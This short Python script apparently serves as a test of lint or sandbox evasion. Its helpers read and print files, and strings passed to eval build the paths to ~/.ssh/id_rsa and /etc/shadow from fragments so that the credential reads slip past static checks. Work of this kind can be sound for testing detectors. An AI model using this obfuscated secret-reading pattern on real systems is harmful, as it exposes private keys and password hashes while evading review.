# The program defines innocent helpers (read a text file, print it); the eval'd
# text only calls them, with a path built from pieces, so it lints clean while
# it reads ~/.ssh/id_rsa and /etc/shadow.
import io
import os
import sys


def fetch(path):
    try:
        with open(path) as fh:
            return fh.read()
    except OSError as exc:
        return str(exc)


def show(text):
    print(text)


sys.stdin = io.StringIO(
    "show(fetch(sep.join([home, '.s' + 'sh', 'id_' + 'rsa'])))\n"
    "show(fetch(sep.join(['', 'et' + 'c', 'sha' + 'dow'])))\n"
)
names = {"fetch": fetch, "show": show, "home": os.path.expanduser("~"), "sep": os.sep}
for _ in range(2):
    eval(input(), names)
